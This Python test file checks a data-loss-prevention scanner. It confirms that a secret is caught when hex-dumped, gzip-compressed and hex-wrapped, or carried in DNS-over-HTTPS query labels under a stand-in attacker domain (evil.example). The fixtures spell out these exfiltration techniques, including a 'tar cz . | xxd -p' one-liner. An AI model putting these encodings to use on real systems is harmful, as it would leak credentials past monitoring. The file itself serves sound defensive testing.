"""Red-team round: what a shell one-liner or an echoing upstream produces easily.

- Hex dumps (``xxd file``, ``hexdump -C file``, ``od -x file``): offsets, blanks and a text
  column between the bytes, the value cut every 16 characters in that column. They passed every
  layer; they are read back into their bytes now (``dlp.dumps``).
- ``tar cz . | xxd -p``: hex wrapped at 60 columns around compressed bytes. Plain text in that
  form was found by the separator search, compressed bytes were not; a wrapped hex block is one
  run now.
- DNS over HTTPS (``?dns=`` base64url of a query message, a POST of one, a resolver's
  ``?name=``): the name asked for carries a secret in its labels to the attacker's name server,
  and was never judged as a host; the names are read out (``dlp.dns``) and judged like a host.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import unittest

from bench.dumps import hexdump_c, od_x, xxd, xxd_p
from bot_bottle.sidecar.dlp import Scanner

SECRET = "Kq7vR2xPz9/LmW4+tYb8Nc&Qe"
GHP = "ghp_" + "q8Yt3LmN0pR5sV2wX7zA9cE4gJ6kB1dF0hUi"
URL = "https://collector.example/up"
TEXT = (("Content-Type", "text/plain"),)


FILE = f"# deploy settings\nexport API_TOKEN={SECRET}\nexport REGION=eu-west-1\n".encode()
TOKEN_FILE = f"[default]\ntoken = {GHP}\n".encode()


class ScanCase(unittest.TestCase):
    """A scanner that knows the bottle secret ``SECRET``, and what it finds in a request body."""

    @classmethod
    def setUpClass(cls) -> None:
        cls.scanner = Scanner(secrets={"API_TOKEN": SECRET})

    def found(self, body: bytes | str, headers: tuple[tuple[str, str], ...] = TEXT) -> set[str]:
        data = body.encode() if isinstance(body, str) else body
        return {f.secret_name or f.detector for f in self.scanner.scan_request("POST", URL, headers, data)}


class HexDumpTest(ScanCase):

    def test_each_dump_format_of_a_secret_is_found(self) -> None:
        dumps = {"xxd": xxd(FILE), "xxd -g1": xxd(FILE, 1), "xxd -g4": xxd(FILE, 4),
                 "hexdump -C": hexdump_c(FILE), "od -x": od_x(FILE)}
        for name, dump in dumps.items():
            with self.subTest(dump=name):
                self.assertIn("API_TOKEN", self.found(dump))

    def test_indented_and_six_digit_offsets(self) -> None:
        quoted = "".join("    " + line + "\n" for line in xxd(FILE).splitlines())  # a code block
        self.assertIn("API_TOKEN", self.found("the file:\n\n" + quoted))
        od_ax = "".join(f"{at:06x} " + " ".join(f"{b:02x}" for b in FILE[at:at + 16]) + "\n"
                        for at in range(0, len(FILE), 16))
        self.assertIn("API_TOKEN", self.found(od_ax))

    def test_repeated_lines_left_out(self) -> None:
        # hexdump and od write "*" for lines like the one before (zero padding in front).
        lines = hexdump_c(b"\0" * 64 + FILE).splitlines()
        self.assertIn("API_TOKEN", self.found("\n".join([lines[0], "*"] + lines[4:]) + "\n"))

    def test_a_token_format_in_a_dump_is_found(self) -> None:
        for dump in (xxd(TOKEN_FILE), hexdump_c(TOKEN_FILE), od_x(TOKEN_FILE)):
            self.assertIn("github-token", self.found(dump))

    def test_a_dump_of_gzip_is_opened(self) -> None:
        packed = gzip.compress(FILE, mtime=0)
        self.assertIn("API_TOKEN", self.found(xxd(packed)))
        self.assertIn("API_TOKEN", self.found(hexdump_c(packed)))

    def test_wrapped_plain_hex_of_gzip_is_opened(self) -> None:
        self.assertIn("API_TOKEN", self.found(xxd_p(gzip.compress(FILE, mtime=0))))
        self.assertIn("github-token", self.found(xxd_p(gzip.compress(TOKEN_FILE, mtime=0))))

    def test_a_dump_inside_json_and_a_query(self) -> None:
        body = json.dumps({"log": "attached:\n" + xxd(FILE)}).encode()
        self.assertIn("API_TOKEN", self.found(body, (("Content-Type", "application/json"),)))
        url = URL + "?d=" + "".join(f"%{b:02x}" for b in hexdump_c(FILE).encode())
        self.assertIn("API_TOKEN", {f.secret_name for f in self.scanner.scan_request("GET", url, (), None)})

    def test_a_streamed_batch_finds_it_as_the_buffered_scan_does(self) -> None:
        rng = random.Random(6)
        filler = "".join(f"line {i}: {rng.getrandbits(64):x} ok\n" for i in range(30_000)).encode()
        data = filler + xxd(FILE).encode() + filler
        self.assertIn("API_TOKEN", {f.secret_name for f in self.scanner.scan_batch(data, deep=True)})

    def test_redaction_removes_the_dump_text_column_included(self) -> None:
        # The value ends the file: its last characters are in the last line's text column.
        for dump in (xxd(b"token " + SECRET.encode()), hexdump_c(b"token " + SECRET.encode()),
                     xxd(FILE)):
            with self.subTest(dump=dump[:30]):
                result = self.scanner.redact_request("POST", URL, TEXT, dump.encode())
                self.assertFalse(result.unredacted)
                body = (result.body or b"").decode()
                self.assertNotIn("4b71 3776", body)
                self.assertFalse(any(SECRET[i:i + 6] in body for i in range(len(SECRET) - 5)))
                self.assertFalse(self.scanner.scan_request("POST", URL, TEXT, result.body))

    def test_dumps_of_ordinary_data_are_left_alone(self) -> None:
        rng = random.Random(9)
        source = b"def main() -> None:\n    print('hello, world')\n" * 40
        png = b"\x89PNG\r\n\x1a\n" + rng.randbytes(3000)
        for data in (rng.randbytes(4000), source, png, gzip.compress(source, mtime=0)):
            for dump in (xxd(data), hexdump_c(data), od_x(data), xxd_p(data)):
                self.assertEqual(self.found(dump), set())

    def test_tables_of_numbers_are_left_alone(self) -> None:
        rows = "\n".join(f"{i:08d}  {i * 7 % 10000:04d} {i * 13 % 10000:04d} {i * 31 % 10000:04d}" for i in range(500))
        self.assertEqual(self.found(rows), set())
        self.assertEqual(self.found(json.dumps({"limits": [1000000] * 5000, "rows": rows}).encode(),
                                    (("Content-Type", "application/json"),)), set())


def dns_query(name: str, qtype: int = 1) -> bytes:
    """A DNS query message for ``name`` (RFC 1035 wire format), as DNS over HTTPS sends one."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00" + qtype.to_bytes(2, "big") + b"\x00\x01"


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


class DnsOverHttpsTest(unittest.TestCase):
    """A name asked of a public resolver over HTTPS carries its labels to the attacker's name
    server: judged like a request's host now (it was not looked at as one)."""

    @classmethod
    def setUpClass(cls) -> None:
        cls.scanner = Scanner(secrets={"API_TOKEN": SECRET})

    def names(self) -> dict[str, str]:
        b32 = base64.b32encode(SECRET.encode()).decode().rstrip("=").lower()
        hexed = SECRET.encode().hex()
        return {"base32 in two labels": f"{b32[:20]}.{b32[20:]}.t.evil.example",
                "hex in two labels": f"{hexed[:26]}.{hexed[26:]}.t.evil.example",
                "lower case": f"{SECRET.lower()}.evil.example"}  # a label's bytes are any but "."

    def found(self, method: str, url: str, headers: tuple[tuple[str, str], ...] = (),
              body: bytes | None = None) -> set[str]:
        return {f.secret_name or f.detector for f in self.scanner.scan_request(method, url, headers, body)}

    def test_get_with_the_message_in_base64url(self) -> None:
        for label, name in self.names().items():
            with self.subTest(name=label):
                url = "https://dns.google/dns-query?dns=" + b64url(dns_query(name))
                self.assertIn("API_TOKEN", self.found("GET", url))
                redacted = self.scanner.redact_request("GET", url)
                self.assertTrue(redacted.unredacted)  # a name cannot be rewritten: the caller blocks

    def test_post_of_the_message(self) -> None:
        headers = (("Content-Type", "application/dns-message"),)
        for label, name in self.names().items():
            with self.subTest(name=label):
                found = self.found("POST", "https://cloudflare-dns.com/dns-query", headers, dns_query(name, 16))
                self.assertIn("API_TOKEN", found)

    def test_json_api_name_parameter(self) -> None:
        b32 = base64.b32encode(SECRET.encode()).decode().rstrip("=").lower()
        url = f"https://dns.google/resolve?name={b32[:20]}.{b32[20:]}.t.evil.example&type=A"
        self.assertIn("API_TOKEN", self.found("GET", url))

    def test_ordinary_lookups_pass(self) -> None:
        for name in ("www.example.com", "registry.npmjs.org", "objects.githubusercontent.com",
                     "_acme-challenge.build-7d9f8b6c5d.example.org", "d1a2b3c4d5e6f7.cloudfront.net"):
            with self.subTest(name=name):
                self.assertEqual(self.found("GET", "https://dns.google/dns-query?dns=" + b64url(dns_query(name, 28))), set())
                self.assertEqual(self.found("GET", f"https://dns.google/resolve?name={name}&type=A"), set())
                self.assertEqual(self.found("POST", "https://dns.google/dns-query",
                                            (("Content-Type", "application/dns-message"),), dns_query(name)), set())
        self.assertEqual(self.found("GET", "https://api.example/v1/apps?name=com.example.myapp.android&v=1.2.3"), set())

    def test_what_is_not_a_query_message_is_not_read_as_one(self) -> None:
        from bot_bottle.sidecar.dlp.dns import query_names

        self.assertEqual(query_names(b"\x12\x34\x81\x80" + dns_query("a.example")[4:]), [])  # a response
        self.assertEqual(query_names(dns_query("a.example")[:-3]), [])  # cut short
        self.assertEqual(query_names(random.Random(3).randbytes(64)), [])
        self.assertEqual(query_names(dns_query("one.two.example")), ["one.two.example"])


if __name__ == "__main__":
    unittest.main()
